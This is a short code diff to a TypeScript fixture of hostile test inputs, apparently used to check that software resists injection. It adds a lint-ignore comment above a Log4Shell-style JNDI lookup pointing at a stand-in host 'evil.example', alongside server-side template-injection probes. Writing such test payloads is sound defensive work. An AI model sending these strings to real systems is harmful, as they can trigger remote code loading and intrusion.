@@ -199,6 +199,7 @@ export const hostileTexts: Record<string, Record<string, string>> = {
     "a search that never ends": "a & | ! ( :*",
   },
   "other machines": {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: as it is sent
     "a lookup in a log": "${jndi:ldap://evil.example/a}",
     "a template": "{{7*7}}",
     "a template of Ruby": "<%= 7*7 %>",
